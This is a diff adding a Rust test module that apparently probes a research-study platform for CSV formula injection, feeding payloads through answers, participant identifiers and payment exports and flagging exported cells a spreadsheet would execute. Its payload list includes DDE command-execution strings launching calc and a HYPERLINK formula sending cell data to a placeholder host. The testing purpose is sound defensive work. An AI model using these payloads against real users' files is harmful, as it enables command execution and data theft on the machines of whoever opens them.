@@ -1,0 +1,93 @@
+//! A spreadsheet executes an answer or an identifier that the researcher opens.
+
+use crate::item::{Observed, Variant};
+use crate::page::Page;
+use crate::study::Study;
+use crate::wire::messages::{Answer, Entry, StageView};
+use crate::world::World;
+
+pub(crate) const NAME: &str = "csv-formulas";
+pub(crate) const TRIES: &str =
+    "An answer or an identifier is a formula that a spreadsheet executes when the researcher opens a file.";
+
+/// Cells that a spreadsheet takes for a formula.
+const FORMULAS: [&str; 6] = [
+    "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+];
+
+pub(crate) async fn attack(world: &mut World, variant: &mut Variant) -> anyhow::Result<Observed> {
+    let formula = variant.choose("formula", &FORMULAS);
+    let place = variant.choose("in", &["answer", "identifier", "payment file"]);
+    let mut study = Study::questions();
+    if place == "payment file" {
+        study.bonus = "1.0".to_owned();
+    } else if place == "identifier" {
+        study.recruitment = "  provider: parameters\n  parameters: {participant: pid, site: site}\n  currency: GBP\n  \
+                             base: 1.00\n"
+            .to_owned();
+    }
+    world.serve(&study, &[]).await?;
+    let owned = |name: &str, value: &str| (name.to_owned(), value.to_owned());
+    let query = match place {
+        "answer" => World::query_of(&world.next_id()),
+        "payment file" => World::query_of(formula),
+        _ => vec![owned("pid", formula), owned("site", formula)],
+    };
+    let mut page = Page::connect(&world.address()).await?;
+    if let Some(why) = page.say_hello(Entry::Sent(query)).await? {
+        return Ok(Observed::Held(format!("{formula:?} is refused: {why:?}")));
+    }
+    let (stage, _) = page.await_stage(|_| true).await?;
+    let answer = Answer {
+        name: "why".to_owned(),
+        value: match place {
+            "answer" => serde_json::Value::from(formula).to_string(),
+            _ => "\"because\"".to_owned(),
+        },
+    };
+    page.finish(stage, vec![answer]).await?;
+    page.await_stage(|view| matches!(view, StageView::End { .. })).await?;
+    drop(page);
+    world.stop().await?;
+    let mut folders = vec![world.path("tables")];
+    world.table("sessions").await?;
+    if place != "answer" {
+        let (data, folder) = (world.data(), world.path("payments"));
+        std::fs::create_dir_all(&folder)?;
+        for format in ["prolific", "mturk", "plain"] {
+            let out = folder.join(format!("{format}.csv"));
+            let (data, out) = (data.to_string_lossy(), out.to_string_lossy());
+            world.coplay(&["pay", "--data", &data, "--csv", format, "--out", &out]).await?;
+        }
+        folders.push(folder);
+    }
+    let mut found = Vec::new();
+    let mut files = 0;
+    for folder in folders {
+        for file in std::fs::read_dir(folder)? {
+            let path = file?.path();
+            files += 1;
+            let mut reader = csv::ReaderBuilder::new()
+                .has_headers(false)
+                .flexible(true)
+                .from_path(&path)?;
+            for record in reader.records() {
+                let record = record?;
+                let is_live = |cell: &&str| cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+                let is_number = |cell: &&str| cell.parse::<f64>().is_ok();
+                let live = record.iter().find(|cell| is_live(cell) && !is_number(cell));
+                if let Some(cell) = live {
+                    let name = path.file_name().unwrap_or_default().to_string_lossy();
+                    found.push(format!("{name}: {cell:?}"));
+                }
+            }
+        }
+    }
+    let seen = format!("in {files} files, cells that a spreadsheet executes: {found:?}");
+    Ok(Observed::broken_if(!found.is_empty(), seen))
+}
